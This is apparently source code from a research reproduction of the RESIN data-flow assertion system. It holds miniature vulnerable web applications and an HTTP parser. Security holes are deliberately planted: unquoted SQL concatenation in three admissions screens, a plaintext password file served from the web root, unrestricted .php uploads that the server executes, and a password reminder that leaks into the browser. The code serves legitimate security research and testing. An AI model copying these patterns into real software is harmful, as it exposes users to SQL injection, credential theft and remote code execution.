* **Paper pages** — title/abstract guarded by a paper read-access assertion,
  author lists guarded by an anonymity assertion whose failure is handled
  with the output-buffering pattern of Section 5.5 ("Anonymous" is shown
  instead of the authors).
* **Review access** — only PC members and the paper's authors may read
  reviews (once the PC decision allows it).

The application runs with or without its RESIN assertions (``use_resin``),
so the evaluation harness can demonstrate that the attacks succeed on the
unprotected application and are blocked by the assertions.  The assertion
code itself is collected in the ``install_*_assertion`` methods and the two
policy classes; the paper reports 23 / 30 / 32 lines for the three HotCRP
assertions.
"""

from __future__ import annotations

from typing import List, Optional

from ..channels.httpout import HTTPOutputChannel
from ..core.exceptions import AccessDenied, PolicyViolation
from ..core.policy import Policy
from ..core.request_context import current_request
from ..environment import Environment
from ..policies.password import PasswordPolicy
from ..runtime_api import Resin
from ..tracking.propagation import concat, to_tainted_str
from ..web.response import Response
from ..web.sanitize import sql_quote

#: Service name under which a site registers itself on its environment.
SITE_SERVICE = "hotcrp.site"


def current_site(env: Optional[Environment] = None) -> Optional["HotCRP"]:
    """The conference site serving ``env`` (or the active request's
    environment) — the environment-service analogue of HotCRP's global
    ``$Me``-style state, scoped so concurrent deployments never mix.
    """
    if env is not None:
        return env.services.get(SITE_SERVICE)
    rctx = current_request()
    if rctx is not None and rctx.env is not None:
        return rctx.env.services.get(SITE_SERVICE)
    return None


class PaperPolicy(Policy):
    """Paper title/abstract may flow only to PC members and the paper's own
    authors (the "missing access checks for papers" assertion, 30 LOC in the
    paper)."""

    ENFORCED_TYPES = frozenset({"http", "socket", "email"})

    def __init__(self, paper_id: int, allowed_users):
        self.paper_id = paper_id
        self.allowed_users = frozenset(str(u) for u in allowed_users)

    def export_check(self, context) -> None:
        if context.get("type") not in self.ENFORCED_TYPES:
            return
        user = context.get("user") or context.get("email")
        if user is not None and str(user) in self.allowed_users:
            return
        if context.get("is_pc") or context.get("priv_chair"):
            return
        raise AccessDenied(
            f"user {user!r} may not read paper #{self.paper_id}",
            policy=self,
            context=context,
        )

    def scan_predicate(self, context):
        # Pure principal ACL: decidable once per query plan (enforce mode).
        try:
            self.export_check(context)
        except PolicyViolation:
            return False
        return True


class AuthorListPolicy(Policy):
    """The author list of an anonymous submission may not flow to PC members
    (the 32-LOC assertion; it issues database queries to find the paper's
    authors and anonymity flag, which is why it is the longest one)."""

    ENFORCED_TYPES = frozenset({"http", "socket", "email"})

    def __init__(self, paper_id: int, authors, anonymous: bool):
        self.paper_id = paper_id
        self.authors = frozenset(str(a) for a in authors)
        self.anonymous = bool(anonymous)

    def export_check(self, context) -> None:
        if context.get("type") not in self.ENFORCED_TYPES:
            return
        user = context.get("user") or context.get("email")
        if user is not None and str(user) in self.authors:
            return
        if context.get("priv_chair"):
            return
        if not self.anonymous and context.get("is_pc"):
            return
        raise AccessDenied(
            f"author list of paper #{self.paper_id} is anonymous",
            policy=self,
            context=context,
        )

    def scan_predicate(self, context):
        # Pure principal ACL: decidable once per query plan (enforce mode).
        try:
            self.export_check(context)
        except PolicyViolation:
            return False
        return True


class ReviewPolicy(Policy):
    """Reviews may be read only by PC members (and by authors once reviews
    are released)."""

    ENFORCED_TYPES = frozenset({"http", "socket", "email"})

    def __init__(self, paper_id: int, authors, released: bool = False):
        self.paper_id = paper_id
        self.authors = frozenset(str(a) for a in authors)
        self.released = bool(released)

    def export_check(self, context) -> None:
        if context.get("type") not in self.ENFORCED_TYPES:
            return
        if context.get("is_pc") or context.get("priv_chair"):
            return
        user = context.get("user") or context.get("email")
        if self.released and user is not None and str(user) in self.authors:
            return
        raise AccessDenied(
            f"user {user!r} may not read reviews of paper #{self.paper_id}",
            policy=self,
            context=context,
        )

    def scan_predicate(self, context):
        # Pure principal ACL: decidable once per query plan (enforce mode).
        try:
            self.export_check(context)
        except PolicyViolation:
            return False
        return True


class HotCRP:
    """The conference site."""

    def __init__(self, env: Optional[Environment] = None, use_resin: bool = True):
        self.env = env if env is not None else Environment()
        self.resin = Resin(self.env)
        self.use_resin = use_resin
        #: Site-wide option: show outgoing mail in the browser instead of
        #: sending it (the feature that interacts badly with reminders).
        self.email_preview_mode = False
        self._setup_schema()
        self.env.services.register(SITE_SERVICE, self)
        self.web = self._build_web()

    def _build_web(self):
        """The site's routed HTTP front end.

        A request-phase middleware resolves the requesting principal the way
        ``_response_for`` does for direct calls (PC membership and the chair
        privilege land on the response channel's context, where the paper /
        author-list policies look for them); the page methods then stream
        into the routed response.
        """
        web = self.resin.app("hotcrp")

        @web.middleware
        def resolve_principal(request, response):
            response.set_user(request.user, priv_chair=self.is_chair(request.user))
            response.context["is_pc"] = self.is_pc_member(request.user)

        @web.route("/paper/<int:paper_id>")
        def paper(request, response, paper_id):
            self.paper_page(paper_id, request.user, response=response)

        @web.route("/paper/<int:paper_id>/reviews")
        def reviews(request, response, paper_id):
            self.review_page(paper_id, request.user, response=response)

        @web.route("/password/reminder", methods=["POST"])
        def remind(request, response):
            outcome = self.send_password_reminder(
                str(request.require("email")), response
            )
            return Response(status=202).header("X-Reminder", outcome)

        return web

    # -- schema and fixtures ----------------------------------------------------------

    def _setup_schema(self) -> None:
        db = self.env.db
        db.execute_unchecked(
            "CREATE TABLE IF NOT EXISTS users "
            "(email TEXT, password TEXT, is_pc INTEGER, priv_chair INTEGER)"
        )
        db.execute_unchecked(
            "CREATE TABLE IF NOT EXISTS papers "
            "(id INTEGER, title TEXT, abstract TEXT, authors TEXT, "
            "anonymous INTEGER)"
        )
        db.execute_unchecked(
            "CREATE TABLE IF NOT EXISTS reviews "
            "(paper_id INTEGER, reviewer TEXT, body TEXT, released INTEGER)"
        )
        # Secondary indexes on the hot lookup columns (login by email,
        # paper page by id, reviews by paper).  Planner candidates only:
        # the executor re-applies every WHERE, so verdicts never change.
        db.create_index("users", "email")
        db.create_index("papers", "id")
        db.create_index("reviews", "paper_id")

    # -- account management ---------------------------------------------------------------

    def register_user(
        self,
        email: str,
        password: str,
        is_pc: bool = False,
        priv_chair: bool = False,
    ) -> None:
        """Create an account.  With RESIN, the password is annotated with a
        ``PasswordPolicy`` the moment it is set (Figure 2); the policy then
        follows the password into the database and back."""
        password = to_tainted_str(password)
        if self.use_resin:
            password = self.resin.policy(PasswordPolicy, email).on(password)
        query = concat(
            "INSERT INTO users (email, password, is_pc, priv_chair) VALUES ('",
            sql_quote(email),
            "', '",
            sql_quote(password),
            "', ",
            "1" if is_pc else "0",
            ", ",
            "1" if priv_chair else "0",
            ")",
        )
        self.env.db.query(query)

    def authenticate(self, email: str, password: str) -> bool:
        row = self._user(email)
        return row is not None and str(row["password"]) == str(password)

    def _user(self, email: str):
        result = self.env.db.query(
            concat(
                "SELECT email, password, is_pc, priv_chair FROM users "
                "WHERE email = '",
                sql_quote(email),
                "'",
            )
        )
        return result.rows[0] if result.rows else None

    def is_pc_member(self, email: Optional[str]) -> bool:
        row = self._user(email) if email else None
        return bool(row and int(row["is_pc"]))

    def is_chair(self, email: Optional[str]) -> bool:
        row = self._user(email) if email else None
        return bool(row and int(row["priv_chair"]))

    # -- password reminder (the running example) --------------------------------------------

    def send_password_reminder(
        self, account_email: str, response: HTTPOutputChannel
    ) -> str:
        """Send (or preview) a password reminder for ``account_email``.

        The reminder is always addressed to the account holder's e-mail
        address; the bug is that in e-mail preview mode the composed message
        is written to the *requesting* browser instead of being mailed
        (Section 2).  The RESIN password assertion catches that flow at the
        HTTP boundary regardless of which feature combination triggered it.
        """
        row = self._user(account_email)
        if row is None:
            response.write("Unknown account.\n")
            return "unknown"
        body = concat(
            "Dear user,\n\nYour HotCRP password is: ",
            row["password"],
            "\n\nRegards, the submission site\n",
        )
        if self.email_preview_mode:
            # Email preview: show the message in the browser.
            response.write("<h1>Email preview</h1><pre>")
            response.write(body)
            response.write("</pre>")
            return "previewed"
        self.env.mail.send(
            to=account_email, subject="HotCRP password reminder", body=body
        )
        response.write("A reminder has been sent to your address.\n")
        return "mailed"

    # -- papers -----------------------------------------------------------------------------------

    def submit_paper(
        self,
        paper_id: int,
        title: str,
        abstract: str,
        authors: List[str],
        anonymous: bool = True,
    ) -> None:
        author_field = ", ".join(authors)
        title = to_tainted_str(title)
        abstract = to_tainted_str(abstract)
        author_text = to_tainted_str(author_field)
        if self.use_resin:
            allowed = set(authors)
            title = self.resin.taint(title, PaperPolicy(paper_id, allowed))
            abstract = self.resin.taint(abstract, PaperPolicy(paper_id, allowed))
            author_text = self.resin.taint(
                author_text, AuthorListPolicy(paper_id, authors, anonymous)
            )
        query = concat(
            "INSERT INTO papers (id, title, abstract, authors, anonymous) "
            "VALUES (",
            str(int(paper_id)),
            ", '",
            sql_quote(title),
            "', '",
            sql_quote(abstract),
            "', '",
            sql_quote(author_text),
            "', ",
            "1" if anonymous else "0",
            ")",
        )
        self.env.db.query(query)

    def add_review(
        self, paper_id: int, reviewer: str, body: str, released: bool = False
    ) -> None:
        paper = self._paper(paper_id)
        authors = [a.strip() for a in str(paper["authors"]).split(",")]
        body = to_tainted_str(body)
        if self.use_resin:
            body = self.resin.taint(body, ReviewPolicy(paper_id, authors, released))
        self.env.db.query(
            concat(
                "INSERT INTO reviews (paper_id, reviewer, body, released) VALUES (",
                str(int(paper_id)),
                ", '",
                sql_quote(reviewer),
                "', '",
                sql_quote(body),
                "', ",
                "1" if released else "0",
                ")",
            )
        )

    def _paper(self, paper_id: int):
        result = self.env.db.query(
            f"SELECT id, title, abstract, authors, anonymous FROM papers "
            f"WHERE id = {int(paper_id)}"
        )
        if not result.rows:
            from ..core.exceptions import HTTPError

            raise HTTPError(404, f"no such paper: {paper_id}")
        return result.rows[0]

    def _response_for(self, user: Optional[str]) -> HTTPOutputChannel:
        response = self.env.http_channel(user=user, priv_chair=self.is_chair(user))
        response.context["is_pc"] = self.is_pc_member(user)
        return response

    def paper_page(
        self,
        paper_id: int,
        user: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """Generate the paper view page for ``user``.

        This is the page measured in Section 7.1: title, abstract and the
        author list (or "Anonymous"), plus the surrounding boilerplate.  With
        RESIN, the author list is *always* written inside an output-buffered
        try block; the anonymity assertion raising is the access check
        (Section 5.5).  Without RESIN, the application performs the explicit
        check itself — correctly on this path, which is exactly why the
        paper's point is about the paths programmers forget.
        """
        if response is None:
            response = self._response_for(user)
        paper = self._paper(paper_id)
        response.write("<html><head><title>HotCRP: paper ")
        response.write(str(paper_id))
        response.write("</title></head><body>\n")
        response.write("<div class='banner'>" + _BANNER + "</div>\n")
        response.write("<h1>")
        response.write(paper["title"])
        response.write("</h1>\n<div class='abstract'><p>")
        response.write(paper["abstract"])
        response.write("</p></div>\n<div class='authors'>Authors: ")
        self._write_author_list(paper, user, response)
        response.write("</div>\n")
        response.write(_PAGE_FOOTER)
        response.write("</body></html>\n")
        return response

    def _write_author_list(
        self, paper, user: Optional[str], response: HTTPOutputChannel
    ) -> None:
        if self.use_resin:
            # Always try to show the authors; the AuthorListPolicy raises for
            # anonymous submissions and the handler substitutes "Anonymous".
            response.start_buffering()
            try:
                response.write(paper["authors"])
                response.release_buffer()
            except PolicyViolation:
                response.discard_buffer("Anonymous")
            return
        # Original HotCRP behaviour: an explicit check in the display code
        # (the chair flag was already resolved when the response was built,
        # like HotCRP's global $Me).
        if int(paper["anonymous"]) and not response.context.get("priv_chair"):
            response.write("Anonymous")
        else:
            response.write(paper["authors"])

    def review_page(
        self,
        paper_id: int,
        user: Optional[str],
        response: Optional[HTTPOutputChannel] = None,
    ) -> HTTPOutputChannel:
        """Show the reviews of a paper to ``user``."""
        if response is None:
            response = self._response_for(user)
        reviews = self.env.db.query(
            f"SELECT reviewer, body, released FROM reviews "
            f"WHERE paper_id = {int(paper_id)}"
        )
        response.write(f"<h1>Reviews for paper #{paper_id}</h1>\n")
        paper = self._paper(paper_id)
        authors = [a.strip() for a in str(paper["authors"]).split(",")]
        for review in reviews:
            if not self.use_resin:
                # The (correct) explicit check of the original code: only PC
                # members and authors of released reviews may see a review.
                allowed = (
                    self.is_pc_member(user)
                    or self.is_chair(user)
                    or (int(review["released"]) and user in authors)
                )
                if not allowed:
                    continue
            response.start_buffering()
            try:
                response.write("<div class='review'>")
                response.write(review["body"])
                response.write("</div>\n")
                response.release_buffer()
            except PolicyViolation:
                response.discard_buffer("<div class='review'>hidden</div>\n")
        return response


#: Static page chrome; sized so that a generated paper page is in the same
#: ballpark as the 8.5 KB page measured in Section 7.1.
_BANNER = ("HotCRP conference management " * 8).strip()

_NAV_LINE = (
    "<span class='nav'>submissions &middot; reviews &middot; profile "
    "&middot; search &middot; help</span>\n"
)

_PAGE_FOOTER = "<div class='footer'>" + _NAV_LINE * 60 + "</div>\n"
