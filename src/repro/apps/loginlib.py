"""myPHPscripts "login session" — a miniature drop-in login library.

The real library stores its users' passwords in a plain-text file located in
the same HTTP-accessible directory as its PHP files (CVE-2008-5855): an
adversary simply requests the password file with a browser.

The RESIN assertion (6 lines in the paper) annotates each password with a
policy that forbids any disclosure (the myPHPscripts variant of the HotCRP
password assertion — the only difference is that this one does not allow
e-mail reminders, Section 6.3).  Because policies persist into the file's
extended attributes, a RESIN-aware web server refuses to serve the password
file even though it sits inside the document root.
"""

from __future__ import annotations

from typing import Optional

from ..core.exceptions import HTTPError
from ..environment import Environment
from ..fs import path as fspath
from ..policies.password import PasswordPolicy
from ..runtime_api import Resin
from ..tracking.propagation import concat, to_tainted_str
from ..web.app import WebApplication
from ..web.request import Request
from ..web.response import Response


class LoginLibrary:
    """The login library plus the site that embeds it."""

    #: Document root of the site embedding the library; the library keeps its
    #: data file inside it (that is the bug).
    DOCROOT = "/www/site"

    #: The plain-text credential store, inside the document root.
    PASSWORD_FILE = "/www/site/loginlib/users.txt"

    def __init__(self, env: Optional[Environment] = None, use_resin: bool = True):
        self.env = env if env is not None else Environment()
        self.resin = Resin(self.env)
        self.use_resin = use_resin
        self.web = WebApplication(self.env, name="loginlib-site")
        self.web.add_static_mount("/site", self.DOCROOT)

        @self.web.route("/login", methods=["POST"])
        def login(request, response):
            ok = self.authenticate(
                str(request.require("user")), str(request.require("password"))
            )
            if not ok:
                raise HTTPError(403, "bad credentials")
            return Response("welcome")

        directory = fspath.dirname(self.PASSWORD_FILE)
        if not self.env.fs.exists(directory):
            self.env.fs.mkdir(directory, parents=True)
        if not self.env.fs.exists(self.PASSWORD_FILE):
            self.env.fs.write_text(self.PASSWORD_FILE, "")

    # -- the library API ------------------------------------------------------------

    def register(self, username: str, password: str) -> None:
        """Add a user to the plain-text credential file."""
        password = to_tainted_str(password)
        if self.use_resin:
            # The 6-line assertion: this password may never be disclosed
            # (no e-mail reminders in this library, so no allowed channel —
            # the account name is not an e-mail address).
            password = self.resin.policy(
                PasswordPolicy, username, allow_chair=False
            ).on(password)
        line = concat(username, ":", password, "\n")
        self.env.fs.write_text(self.PASSWORD_FILE, line, append=True)

    def authenticate(self, username: str, password: str) -> bool:
        content = self.env.fs.read_text(self.PASSWORD_FILE)
        for line in content.splitlines():
            if not line:
                continue
            stored_user, _, stored_password = line.partition(":")
            if str(stored_user) == username:
                return str(stored_password) == str(password)
        return False

    # -- the attack surface ----------------------------------------------------------------

    def http_get(self, path: str, user: Optional[str] = None):
        """Serve an HTTP request against the embedding site (static files
        come from the document root — including, on the unprotected site,
        the password file)."""
        return self.web.handle(Request(path, user=user))
