"""Upload-enabled applications vulnerable to server-side script injection.

The paper applies a *single* 12-line assertion to five different PHP
applications with known upload-then-execute vulnerabilities (phpBB's
attachment mod, Kwalbum, AWStats Totals, phpMyAdmin and wPortfolio,
references [3, 11, 16, 23, 36]).  Each lets a user upload a file into a
web-accessible directory; requesting the uploaded ``.php`` file makes the
server execute it.

``UploadApp`` models that shape once; five named instances reproduce the
five applications.  The assertion (Section 5.2, Figure 6) is:

1. replace the interpreter's default input filter with
   :class:`~repro.interp.filters.InterpreterFilter`;
2. at install time, tag the application's own scripts with a persistent
   ``CodeApproval`` policy (``approve_code_file``).

Uploaded files never get the policy, so the interpreter refuses to run them
— whether they are reached by include, eval, or a direct HTTP request.
"""

from __future__ import annotations

from typing import List, Optional

from ..environment import Environment
from ..fs import path as fspath
from ..runtime_api import Resin
from ..tracking.propagation import to_tainted_str
from ..web.app import WebApplication
from ..web.request import Request
from ..web.response import Response

#: The five applications of Table 4's "many" row and their CVE identifiers.
VULNERABLE_APPS = (
    ("phpbb-attachment-mod", "CVE-2004-1404"),
    ("kwalbum", "CVE-2008-5677"),
    ("awstats-totals", "CVE-2008-3922"),
    ("phpmyadmin", "CVE-2008-4096"),
    ("wportfolio", "CVE-2008-5220"),
)


class UploadApp:
    """One web application that accepts file uploads into its docroot."""

    def __init__(
        self,
        name: str,
        env: Optional[Environment] = None,
        use_resin: bool = True,
        cve: str = "",
    ):
        self.name = name
        self.cve = cve
        self.env = env if env is not None else Environment()
        self.resin = Resin(self.env)
        self.use_resin = use_resin
        self.docroot = f"/www/{name}"
        self.upload_dir = fspath.join(self.docroot, "uploads")
        self.web = WebApplication(self.env, name=name)
        self.web.add_static_mount(f"/{name}", self.docroot)

        @self.web.route(f"/{name}/upload", methods=["POST"])
        def upload_route(request, response):
            target = self.upload(
                request.user,
                str(request.require("filename")),
                request.require("content"),
            )
            return Response(f"stored {target}", status=201)

        self._install()

    def _install(self) -> None:
        """Install the application: write its own scripts into the docroot
        and, with RESIN, apply the script-injection assertion.

        The assertion is installed on *this application's* environment only
        (its registry), so several applications — protected or not — can run
        concurrently in one process without interfering.
        """
        self.env.fs.mkdir(self.upload_dir, parents=True)
        index = fspath.join(self.docroot, "index.php")
        self.env.fs.write_text(index, "output('<h1>%s</h1>')\n" % self.name)
        if self.use_resin:
            self.resin.assertion("script-injection").install()
            self.resin.approve_code(index)

    # -- the vulnerable feature ------------------------------------------------------

    def upload(self, user: str, filename: str, content) -> str:
        """Accept a user upload.  The application intends this for images and
        attachments but does not restrict the file extension (the bug)."""
        target = fspath.join(self.upload_dir, fspath.basename(filename))
        self.env.fs.set_request_context(user=user)
        try:
            self.env.fs.write_text(target, to_tainted_str(content))
        finally:
            self.env.fs.clear_request_context()
        return target

    def http_get(self, path: str, user: Optional[str] = None):
        """Serve a request; ``.php`` files under the docroot are executed by
        the interpreter (that is how the exploit triggers)."""
        return self.web.handle(Request(path, user=user))

    def run_index(self) -> None:
        """Run the application's own (approved) front page script."""
        self.env.interpreter.execute_file(
            fspath.join(self.docroot, "index.php"), response=self.env.http_channel()
        )


def build_all(use_resin: bool = True) -> List[UploadApp]:
    """Instantiate the five vulnerable applications (each with its own
    environment, as in the evaluation)."""
    return [
        UploadApp(name, Environment(), use_resin=use_resin, cve=cve)
        for name, cve in VULNERABLE_APPS
    ]
