"""MIT EECS graduate admissions — a miniature review system.

The paper evaluates a generic SQL-injection assertion on MIT's internal
graduate-admissions application (18,500 lines of Python): the original
programmers sanitized most inputs, but the assertion revealed three
previously-unknown SQL injection vulnerabilities in the admission
committee's *internal* user interface.

This miniature version reproduces that shape: the public-facing search is
properly quoted, while three internal committee screens interpolate request
parameters into SQL without quoting.  The RESIN assertion (9 lines in the
paper) marks request input untrusted and stacks a
:class:`~repro.security.assertions.SQLGuardFilter` on the database
connection; it blocks all three injections without knowing where they are.
"""

from __future__ import annotations

from typing import List, Optional

from ..environment import Environment
from ..policies.untrusted import UntrustedData
from ..runtime_api import Resin
from ..tracking.propagation import concat, to_tainted_str
from ..web.response import Response
from ..web.routing import UntrustedInputMiddleware
from ..web.sanitize import sql_quote


class AdmissionsSystem:
    """The admissions review application."""

    def __init__(self, env: Optional[Environment] = None, use_resin: bool = True):
        self.env = env if env is not None else Environment()
        self.resin = Resin(self.env)
        self.use_resin = use_resin
        self._setup_schema()
        if use_resin:
            self.install_assertion()
        self.web = self._build_web()

    def _build_web(self):
        """The committee's routed HTTP front end.

        The public search and the three internal screens become routes; the
        untrusted-input middleware is the mark-the-inputs half of the
        assertion at the web boundary (the screens also taint defensively
        for direct calls).  Note the typed ``<int:...>`` parameter on the
        lookup route: URL *path* segments are converted — and therefore
        structurally safe — while the raw query parameters remain the
        injection surface the assertion guards.
        """
        web = self.resin.app("admissions")
        if self.use_resin:
            web.middleware(UntrustedInputMiddleware())

        def rows_response(rows) -> Response:
            return Response(
                "\n".join(
                    ", ".join(f"{key}={row[key]}" for key in row.keys())
                    for row in rows
                )
            )

        @web.route("/applicants")
        def search(request, response):
            return rows_response(self.search_by_name(request.require("name")))

        @web.route("/applicants/by-area")
        def by_area(request, response):
            return rows_response(self.filter_by_area(request.require("area")))

        @web.route("/applicants/<int:applicant_id>")
        def lookup(request, response, applicant_id):
            return rows_response(self.lookup_applicant(str(applicant_id)))

        @web.route("/applicants/<int:applicant_id>/decision", methods=["POST"])
        def decide(request, response, applicant_id):
            changed = self.update_decision(applicant_id, request.require("decision"))
            return Response(f"updated {changed} rows")

        return web

    def install_assertion(self) -> None:
        """The 9-line SQL-injection assertion: every query issued by the
        application flows through a structure-checking SQL guard."""
        self.resin.assertion("sql-injection", strategy="structure").install()

    def _setup_schema(self) -> None:
        self.env.db.execute_unchecked(
            "CREATE TABLE IF NOT EXISTS applicants "
            "(applicant_id INTEGER, name TEXT, area TEXT, gre INTEGER, "
            "decision TEXT, notes TEXT)"
        )

    # -- data entry ---------------------------------------------------------------------

    def add_applicant(
        self,
        applicant_id: int,
        name: str,
        area: str,
        gre: int,
        decision: str = "pending",
        notes: str = "",
    ) -> None:
        self.env.db.query(
            concat(
                "INSERT INTO applicants (applicant_id, name, area, gre, decision, "
                "notes) VALUES (",
                str(int(applicant_id)),
                ", '",
                sql_quote(name),
                "', '",
                sql_quote(area),
                "', ",
                str(int(gre)),
                ", '",
                sql_quote(decision),
                "', '",
                sql_quote(notes),
                "')",
            )
        )

    def _taint(self, value):
        """Request parameters reach the handlers as untrusted data when the
        assertion is enabled (the mark-inputs half of the assertion)."""
        value = to_tainted_str(value)
        if not self.use_resin:
            return value
        return self.resin.taint(value, UntrustedData("http-param"))

    # -- the public, correctly-written screen ----------------------------------------------

    def search_by_name(self, name) -> List:
        """Public search screen: input is properly quoted."""
        name = self._taint(name)
        result = self.env.db.query(
            concat(
                "SELECT applicant_id, name, area FROM applicants WHERE name = '",
                sql_quote(name),
                "'",
            )
        )
        return list(result.rows)

    # -- the three vulnerable internal committee screens -------------------------------------

    def filter_by_area(self, area) -> List:
        """Internal screen #1 — the area filter is interpolated raw."""
        area = self._taint(area)
        result = self.env.db.query(
            concat(
                "SELECT applicant_id, name, gre FROM applicants WHERE area = '",
                area,  # BUG: no quoting
                "'",
            )
        )
        return list(result.rows)

    def lookup_applicant(self, applicant_id) -> List:
        """Internal screen #2 — the applicant id is interpolated into a
        numeric context with no quoting at all."""
        applicant_id = self._taint(applicant_id)
        result = self.env.db.query(
            concat(
                "SELECT applicant_id, name, notes FROM applicants "
                "WHERE applicant_id = ",
                applicant_id,  # BUG: no quoting
            )
        )
        return list(result.rows)

    def update_decision(self, applicant_id, decision) -> int:
        """Internal screen #3 — the decision text is interpolated raw."""
        decision = self._taint(decision)
        result = self.env.db.query(
            concat(
                "UPDATE applicants SET decision = '",
                decision,  # BUG: no quoting
                "' WHERE applicant_id = ",
                str(int(applicant_id)),
            )
        )
        return result.rowcount

    # -- helpers used by the harness ----------------------------------------------------------

    def decisions(self) -> List:
        return list(
            self.env.db.query("SELECT applicant_id, decision FROM applicants").rows
        )
