"""Miniature reproductions of the paper's evaluation applications."""

from .admissions import AdmissionsSystem
from .filemanager import BaseFileManager, FileThingie, PHPNavigator
from .hotcrp import AuthorListPolicy, HotCRP, PaperPolicy, ReviewPolicy
from .loginlib import LoginLibrary
from .moinmoin import MoinMoin
from .phpbb import ForumMessagePolicy, PhpBB
from .scriptapps import VULNERABLE_APPS, UploadApp, build_all

__all__ = [
    "HotCRP",
    "PaperPolicy",
    "AuthorListPolicy",
    "ReviewPolicy",
    "MoinMoin",
    "PhpBB",
    "ForumMessagePolicy",
    "FileThingie",
    "PHPNavigator",
    "BaseFileManager",
    "AdmissionsSystem",
    "LoginLibrary",
    "UploadApp",
    "VULNERABLE_APPS",
    "build_all",
]
