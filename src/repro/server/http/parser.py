"""Incremental HTTP/1.1 request parsing.

The parser is the first thing internet traffic meets, so it is written the
way "Ten Years of ZMap" says a listener must be: every limit is enforced
*while* bytes arrive (a request line that never ends is rejected at
``max_request_line`` bytes, not buffered until memory runs out), every
malformed framing decision maps to a concrete status code, and no input —
truncated, oversized, or hostile — can drive the state machine anywhere but
to a clean :class:`ParseError`.

Feed bytes with :meth:`RequestParser.feed`, pull complete requests with
:meth:`RequestParser.next_request` — ``None`` means "need more bytes".
Several pipelined requests in one ``feed`` are fine; each ``next_request``
call consumes exactly one.  Limit violations raise :class:`ParseError`
carrying the response status the connection should send before closing:

* ``400`` — malformed request line, header or chunk framing (also ``414``
  for an over-long request line, which is a *limit* on the line);
* ``413`` — declared or decoded body larger than ``max_body_bytes``;
* ``431`` — header section larger than ``max_header_bytes`` or more than
  ``max_header_count`` fields.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple
from urllib.parse import parse_qsl, unquote

__all__ = ["ParseError", "ParserLimits", "ParsedRequest", "RequestParser"]

_TOKEN = frozenset(
    "!#$%&'*+-.^_`|~" "0123456789" "abcdefghijklmnopqrstuvwxyz" "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
)

#: Methods the server understands.  Anything else is a 501 at the
#: connection layer — but still has to *parse* as a token first.
KNOWN_METHODS = frozenset(
    {"GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE"}
)


class ParseError(Exception):
    """A protocol violation, carrying the status the peer should see."""

    def __init__(self, status: int, message: str):
        super().__init__(message)
        self.status = int(status)


@dataclass(frozen=True)
class ParserLimits:
    """Hard ceilings applied while bytes arrive (never after the fact)."""

    max_request_line: int = 8192
    max_header_bytes: int = 32768
    max_header_count: int = 100
    max_body_bytes: int = 1_048_576
    max_chunk_line: int = 256


@dataclass
class ParsedRequest:
    """One complete request off the wire, still transport-flavoured."""

    method: str
    target: str
    version: str
    headers: List[Tuple[str, str]] = field(default_factory=list)
    body: bytes = b""

    def header(self, name: str, default: Optional[str] = None) -> Optional[str]:
        """First value of ``name`` (case-insensitive), or ``default``."""
        wanted = name.lower()
        for key, value in self.headers:
            if key.lower() == wanted:
                return value
        return default

    def header_values(self, name: str) -> List[str]:
        """Every value of ``name``, in arrival order."""
        wanted = name.lower()
        return [value for key, value in self.headers if key.lower() == wanted]

    @property
    def path(self) -> str:
        """The request target's path component, percent-decoded."""
        raw = self.target.split("?", 1)[0]
        return unquote(raw)

    @property
    def query(self) -> Dict[str, str]:
        """Query-string parameters (last value wins per name)."""
        if "?" not in self.target:
            return {}
        return dict(parse_qsl(self.target.split("?", 1)[1], keep_blank_values=True))

    @property
    def cookies(self) -> Dict[str, str]:
        """The ``Cookie`` header as a name → value mapping."""
        jar: Dict[str, str] = {}
        header = self.header("cookie")
        if not header:
            return jar
        for pair in header.split(";"):
            name, _, value = pair.strip().partition("=")
            if name:
                jar[name] = value
        return jar

    @property
    def keep_alive(self) -> bool:
        """Whether the client expects the connection to survive this
        exchange (HTTP/1.1 defaults to yes, HTTP/1.0 to no)."""
        connection = (self.header("connection") or "").lower()
        tokens = {token.strip() for token in connection.split(",")}
        if self.version == "HTTP/1.0":
            return "keep-alive" in tokens
        return "close" not in tokens

    def __repr__(self) -> str:
        return (
            f"ParsedRequest({self.method} {self.target!r} {self.version}, "
            f"headers={len(self.headers)}, body={len(self.body)}B)"
        )


# Parser states.
_LINE = "request-line"
_HEADERS = "headers"
_BODY_FIXED = "body-fixed"
_CHUNK_SIZE = "chunk-size"
_CHUNK_DATA = "chunk-data"
_CHUNK_CRLF = "chunk-crlf"
_TRAILERS = "trailers"


class RequestParser:
    """The incremental state machine: bytes in, requests out.

    One parser per connection.  After a :class:`ParseError` the parser is
    poisoned — the connection must send the error and close, because resync
    inside a corrupt stream is how request-smuggling bugs are born.
    """

    def __init__(self, limits: Optional[ParserLimits] = None):
        self.limits = limits or ParserLimits()
        self._buffer = bytearray()
        self._state = _LINE
        self._request: Optional[ParsedRequest] = None
        self._header_bytes = 0
        self._body = bytearray()
        self._body_remaining = 0
        self._trailer_count = 0
        self._failed: Optional[ParseError] = None

    # -- input -----------------------------------------------------------------

    def feed(self, data: bytes) -> None:
        """Append raw bytes from the socket."""
        if self._failed is not None:
            raise self._failed
        self._buffer.extend(data)

    @property
    def idle(self) -> bool:
        """True between requests: nothing buffered, nothing half-parsed.

        The connection uses this to pick the applicable timeout — an idle
        keep-alive wait may close quietly, a stalled half-request is a 408.
        """
        return self._state is _LINE and not self._buffer

    @property
    def buffered(self) -> int:
        return len(self._buffer)

    # -- output ----------------------------------------------------------------

    def next_request(self) -> Optional[ParsedRequest]:
        """The next complete request, or ``None`` while bytes are missing."""
        if self._failed is not None:
            raise self._failed
        try:
            return self._advance()
        except ParseError as exc:
            self._failed = exc
            raise

    _STEPS = {}  # filled in after the class body; state -> unbound method

    def _advance(self) -> Optional[ParsedRequest]:
        while True:
            step = self._STEPS[self._state]
            if not step(self):
                return None
            if self._state == "done":
                return self._emit()

    def _emit(self) -> ParsedRequest:
        request = self._request
        request.body = bytes(self._body)
        self._request = None
        self._body = bytearray()
        self._header_bytes = 0
        self._state = _LINE
        return request

    # -- request line ----------------------------------------------------------

    def _take_line(self, limit: int, status: int, what: str) -> Optional[bytes]:
        """One CRLF- (or bare-LF-) terminated line, enforcing ``limit`` on
        the *unterminated* prefix as it accumulates."""
        index = self._buffer.find(b"\n")
        if index == -1:
            if len(self._buffer) > limit:
                raise ParseError(status, f"{what} exceeds {limit} bytes")
            return None
        if index > limit:
            raise ParseError(status, f"{what} exceeds {limit} bytes")
